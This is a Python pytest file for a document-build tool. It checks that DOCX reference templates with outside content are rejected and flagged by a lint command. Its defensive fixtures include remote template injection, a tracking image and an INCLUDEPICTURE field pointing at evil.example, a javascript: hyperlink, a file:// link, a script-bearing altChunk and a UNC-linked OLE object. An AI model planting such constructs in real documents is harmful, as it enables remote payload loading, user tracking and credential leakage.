"""A reference document (--template docx) brings styles, page set-up and headers and footers of its own text and
pictures, nothing from outside: an attached template, a linked picture, an altChunk, a hyperlink that is not a web
address, an INCLUDEPICTURE field or any other relationship with TargetMode External is refused naming the part,
and `lint-docx` reports the same things in any document."""

from __future__ import annotations

import zipfile

import pytest
from test_hostile_outputs import REFERENCE, invoke, repack

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _part(name: str) -> bytes:
    with zipfile.ZipFile(REFERENCE) as z:
        return z.read(name)


def _with_rel(rels: bytes, rel: str) -> bytes:
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def _footer_with(xml: str) -> bytes:
    footer = _part("word/footer1.xml")
    return footer.replace(b"</w:ftr>", xml.encode() + b"</w:ftr>")


DOC_RELS = "word/_rels/document.xml.rels"
FOOTER_RELS = "word/_rels/footer1.xml.rels"
EMPTY_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')

HOSTILE = {
    "attached template": ({"word/_rels/settings.xml.rels": _with_rel(EMPTY_RELS.encode(),
        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>')}, "word/_rels/settings.xml.rels", "attached template"),
    "linked picture": ({DOC_RELS: _with_rel(_part(DOC_RELS),
        f'<Relationship Id="rId99" Type="{R}/image" Target="http://evil.example/track.png" TargetMode="External"/>')},
        DOC_RELS, "picture linked from outside"),
    "javascript hyperlink": ({FOOTER_RELS: _with_rel(EMPTY_RELS.encode(),
        f'<Relationship Id="rId1" Type="{R}/hyperlink" Target="JaVaScRiPt:alert(1)" TargetMode="External"/>')},
        FOOTER_RELS, "not a web address"),
    "file hyperlink": ({FOOTER_RELS: _with_rel(EMPTY_RELS.encode(),
        f'<Relationship Id="rId1" Type="{R}/hyperlink" Target="file:///C:/secret.docx" TargetMode="External"/>')},
        FOOTER_RELS, "not a web address"),
    "altChunk": ({DOC_RELS: _with_rel(_part(DOC_RELS),
        f'<Relationship Id="rId98" Type="{R}/aFChunk" Target="chunk.html"/>'),
        "word/chunk.html": b"<html><body><script>alert(1)</script></body></html>"}, DOC_RELS, "altChunk"),
    "altChunk element": ({"word/footer1.xml": _footer_with(f'<w:altChunk xmlns:r="{R}" r:id="rId5"/>')},
                         "word/footer1.xml", "altChunk"),
    "INCLUDEPICTURE field": ({"word/footer1.xml": _footer_with(
        '<w:p><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" \\d </w:instrText></w:r></w:p>')},
        "word/footer1.xml", "INCLUDEPICTURE field"),
    "external OLE object": ({DOC_RELS: _with_rel(_part(DOC_RELS),
        f'<Relationship Id="rId97" Type="{R}/oleObject" Target="\\\\server\\share\\x.xls" TargetMode="External"/>')},
        DOC_RELS, "object linked from outside"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_reference_document_with_outside_content_is_refused_naming_the_part(tmp_path, small, case):
    parts, part, words = HOSTILE[case]
    known = set(zipfile.ZipFile(REFERENCE).namelist())
    template = repack(tmp_path / "hostile.docx", replace={k: v for k, v in parts.items() if k in known},
                      add={k: v for k, v in parts.items() if k not in known})
    out = tmp_path / "out"
    result = invoke("build", small, "-o", out, "--template", template, "--format", "docx,md,html")
    assert result.exit_code == 2, result.output
    line = next(ln for ln in result.output.splitlines() if "CP048" in ln)
    assert part in line and words in line, line
    assert "Traceback" not in result.output
    assert not out.exists() or not any(out.iterdir())
    linted = invoke("lint-docx", template)
    assert linted.exit_code != 0
    assert any(part in ln and words in ln for ln in linted.output.splitlines() if "CP046" in ln), linted.output


def test_a_web_hyperlink_in_a_footer_is_allowed(tmp_path, small):
    rels = _with_rel(EMPTY_RELS.encode(), f'<Relationship Id="rId1" Type="{R}/hyperlink" '
                                          'Target="https://www.example.gov.uk/" TargetMode="External"/>')
    template = repack(tmp_path / "fine.docx", add={FOOTER_RELS: rels})
    result = invoke("build", small, "-o", tmp_path / "out", "--template", template)
    assert result.exit_code == 0, result.output


def test_documents_cpstrat_builds_reach_nothing_outside(tmp_path, small):
    from cpstrat.util.archive import Budget, check_xml_parts, external_content, open_package

    assert invoke("build", small, "-o", tmp_path / "out").exit_code == 0
    for document in (tmp_path / "out").glob("*.docx"):
        with open_package(document, Budget(max_total=1 << 30)) as archive:
            assert external_content(check_xml_parts(archive)) == []
